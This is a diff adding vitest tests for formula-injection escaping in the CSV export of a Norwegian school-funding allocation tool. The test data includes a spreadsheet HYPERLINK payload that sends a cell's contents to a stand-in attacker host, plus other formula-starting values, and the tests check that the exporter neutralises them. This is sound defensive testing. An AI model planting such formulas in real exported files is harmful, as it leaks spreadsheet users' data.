@@ -1,6 +1,6 @@
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
-import { unitsFromCsv, unitsFromXlsx, unitsTemplateXlsx, resultWorkbook } from '../src/formats/index.js';
+import { csvCell, formatResultCsv, toCsv, unitsFromCsv, unitsFromXlsx, unitsTemplateXlsx, resultWorkbook } from '../src/formats/index.js';
 import { computeAllocation } from '../src/engine/index.js';
 import { baseInput } from './helpers.js';
 
@@ -39,6 +39,36 @@ describe('units from CSV', () => {
     if (r.ok) return;
     expect(r.errors).toContainEqual({ row: 1, column: 'busser', message: expect.stringContaining('Ukjent kolonne «busser»') });
     expect(r.errors).toContainEqual({ row: 1, column: 'navn', message: 'Kolonnen «navn» mangler' });
+  });
+});
+
+describe('CSV writing (formula injection)', () => {
+  it('writes text that a spreadsheet would run as a formula with a leading quote, and numbers as numbers', () => {
+    const input = baseInput();
+    input.units![0]!.name = '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk")';
+    input.units![1]!.name = '@SUM(1+1)';
+    input.units![1]!.id = '-2+3';
+    input.criteria![1]!.id = '+minority';
+    input.adjustments = [{ unit: '-2+3', amount: -5_100_000, reason: 'Trekk' }];
+    const csv = formatResultCsv(computeAllocation(input));
+    const rows = csv.trimEnd().split('\n');
+    expect(rows[0]).toBe('enhet_id;enhet;trinn;elever;kriterium;belop;per_elev');
+    // No cell (between separators, quotes left aside) starts a formula; a negative number stays a number.
+    for (const line of rows) for (const cell of line.split(';')) expect(cell.replace(/^"/, '')).not.toMatch(/^([=+@\t\r]|-(?!\d+(\.\d+)?$))/);
+    expect(csv).toContain(`a;"'=HYPERLINK(""https://angriper.example/?d=""&A1;""Klikk"")";barnetrinn;100;perPupil;`);
+    expect(csv).toContain("'-2+3;'@SUM(1+1);ungdomstrinn;200;'+minority;");
+    expect(csv).toContain("'-2+3;'@SUM(1+1);ungdomstrinn;200;justeringer;-5100000;\n");
+  });
+
+  it('escapes text cells only, and quotes separators, quotes and line breaks', () => {
+    expect(csvCell(-5100000)).toBe('-5100000');
+    expect(csvCell('-5100000')).toBe("'-5100000");
+    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
+    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
+    expect(csvCell('Eide skole')).toBe('Eide skole');
+    expect(csvCell('a;b')).toBe('"a;b"');
+    expect(csvCell(null)).toBe('');
+    expect(toCsv([['x', 1], ['=y', null]])).toBe("x;1\n'=y;\n");
   });
 });
 
